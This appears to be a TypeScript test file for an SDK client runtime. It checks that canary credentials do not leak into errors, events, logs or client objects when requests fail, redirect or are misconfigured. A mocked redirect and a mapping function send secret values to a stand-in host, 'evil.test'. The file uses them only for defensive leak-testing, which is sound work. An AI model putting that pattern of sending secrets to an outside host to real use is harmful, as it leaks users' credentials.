import type { ClientEvent, MapContext, ProviderClient, UseCase } from "@sdkwright/runtime";
import { normalizeRetryPolicy } from "@sdkwright/runtime/config";
import { bindClient, type ClientOptions } from "@sdkwright/runtime/generated/client";
import { digest } from "@sdkwright/runtime/generated/digest";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { assertSilent, printedBy } from "./canary-report.js";
import { definition, schemes, type SchemeId } from "./leak-network.js";
import { VirtualClock } from "../policy/virtual-clock.js";

type Call = UseCase<Record<string, unknown>, unknown>;
type Map = (context: MapContext<Record<string, unknown>, unknown, ProviderClient, Record<string, string>>) => unknown;

const secrets = {
  header: { apikey: "canary-a-header-key" },
  query: { apikey: "canary-b-query-key" },
  bearer: { token: "canary-c-bearer-token" },
  basic: { username: "canary-d-basic-user", password: "canary-e-basic-password" },
  digest: { username: "canary-f-digest-user", password: "canary-g-digest-password" },
};
const inputDefault = "canary-h-input-default";
const texts = [...Object.values(secrets).flatMap((fields) => Object.values(fields)), inputDefault];
const policy = { kind: "circuit-breaker", maxContiguousRetries: 1 } as const;
const input = { note: "$CANARY_INPUT" };

const test = suite("canaries in calls");

/** How the server, or the network, answers every request. */
const answers: Record<string, typeof fetch> = {
  "503 that echoes": echo(503),
  "401 that echoes": echo(401),
  "429 with a long Retry-After": echo(429, { "retry-after": "3600" }),
  "302 away": echo(302, { location: "https://evil.test/?canary-b-query-key" }),
  "digest refused": echo(401, { "www-authenticate": 'Digest realm="r", nonce="n", qop="auth"' }),
  "connection refused": async (url, init) => {
    const told = `${new Request(url, init).url} ${JSON.stringify([...new Headers(init?.headers)])}`;
    throw new TypeError(told, { cause: Object.assign(new Error(told), { code: "ECONNREFUSED" }) });
  },
};

for (const [name, fetch] of Object.entries(answers)) {
  for (const scheme of schemes) {
    test(`${name}, ${scheme}: the error of a call with retries and failover, its events and its output are silent`, async () => {
      const { clock, events, call } = connect(fetch, ({ http }) => http.get("/items", { security: scheme }).text());
      const { value: outcome, printed } = await printedBy(() => clock.finish(call.safe({})));
      assert.not.ok(outcome.ok);
      assert.ok(events.some(({ type }) => type === "attempt"));
      assert.is(events.at(-1)?.type, "failure");
      for (const left of [outcome, events, printed]) assertSilent(left, texts);
    });
  }
}

test("a map that is given a secret in its input and calls a provider with it: our errors stay silent", async () => {
  const { clock, events, call } = connect(echo(200), ({ http, input: { note } }) =>
    http.get(`//evil.test/${String(note)}`),
  );
  const outcome = await clock.finish(call.safe({}));
  assert.not.ok(outcome.ok);
  assertSilent(
    outcome,
    texts.filter((text) => text !== inputDefault),
  );
  assertSilent(
    events,
    texts.filter((text) => text !== inputDefault),
  );
});

test("profile-values-env: a whole $NAME of an input default is resolved, other text is literal", async () => {
  const { clock, call } = connect(echo(200), ({ input }) => input);
  const outcome = await clock.finish(call.safe({ text: "$CANARY_INPUT", price: "$5" }));
  assert.equal(outcome.ok && outcome.value, { note: inputDefault, text: "$CANARY_INPUT", price: "$5" });
});

test("a client shows no secret", () => {
  const { client } = connect(echo(200), () => undefined);
  assertSilent(client, texts);
});

/** Every way to write a credential wrongly; what stands there is the secret. */
const wrong = "canary-z-misplaced";
const invalid: Record<string, unknown> = {
  "a wrong field": { security: [{ id: "header", apiKey: wrong }] },
  "an unknown scheme": { security: [{ id: "nope", apikey: wrong }] },
  "fields of another scheme": { security: [{ id: "header", username: wrong, password: wrong }] },
  "a number of a field": { security: [{ id: "header", apikey: [wrong] }] },
  "no list": { security: { header: { apikey: wrong } } },
  braces: { security: [{ id: "header", apikey: `\${${wrong}}` }] },
  "a dollar in front": { security: [{ id: "header", apikey: `$ ${wrong}` }] },
  "the same twice": { security: [wrong, wrong].map((apikey) => ({ id: "header", apikey })) },
  "a digest field": { security: [{ id: "digest", digest: wrong }] },
  "the list itself": { security: wrong },
  "the provider itself": wrong,
};

for (const [name, provider] of Object.entries(invalid)) {
  test(`invalid clientJson, ${name}: the ConfigurationError is silent`, async () => {
    const { value: error, printed } = await printedBy(async () => {
      try {
        connect(echo(200), () => undefined, { clientJson: { profiles: {}, providers: { acme: provider } } });
        return undefined;
      } catch (thrown) {
        return thrown as Error;
      }
    });
    assert.is(error?.name, "ConfigurationError");
    assertSilent(error, [wrong]);
    assertSilent(printed, [wrong]);
  });
}

test.run();

/** A client with two providers for one use-case, every credential from a variable. */
function connect(fetch: typeof globalThis.fetch, map: Map, options: ClientOptions = {}) {
  const env: Record<string, string> = { CANARY_INPUT: inputDefault };
  const credentials = Object.fromEntries(
    Object.entries(secrets).map(([scheme, fields]) => [scheme, throughVariables(scheme as SchemeId, fields, env)]),
  );
  const part = (name: string) => ({
    definition: { ...definition(`https://${name}.example.test`), name },
    configured: { credentials },
  });
  const providers = { acme: part("acme"), beta: part("beta") };
  const perProvider = { input: {}, retryPolicy: normalizeRetryPolicy(policy) };
  const useCase = { providerFailover: true, input, providers: { acme: perProvider, beta: perProvider } };
  const profile = { name: "test", priority: ["acme", "beta"], useCases: { Send: useCase } };
  const [clock, events] = [new VirtualClock(), [] as ClientEvent[]];
  const client = bindClient<{ profiles: { test: { Send: Call } } }>(
    { providers, profiles: { test: profile }, maps: { test: { acme: { Send: map }, beta: { Send: map } } }, digest },
    { fetch, env, clock, random: () => 0.5, on: (event) => events.push(event), ...options },
  );
  return { client, clock, events, call: client.profiles.test.Send };
}

function throughVariables(
  scheme: SchemeId,
  fields: Record<string, string>,
  env: Record<string, string>,
): Record<string, string> {
  const configured: Record<string, string> = {};
  for (const [field, secret] of Object.entries(fields)) {
    const name = `CANARY_${scheme}_${field}`.toUpperCase();
    env[name] = secret;
    configured[field] = `$${name}`;
  }
  return configured;
}

/** Answers with everything that the request said. */
function echo(status: number, headers: Record<string, string> = {}): typeof fetch {
  return async (url, init) => {
    const request = new Request(url, init);
    const told = `${request.url} ${JSON.stringify([...request.headers])}`;
    return new Response(told, { status, headers: { "x-request-id": told, ...headers } });
  };
}
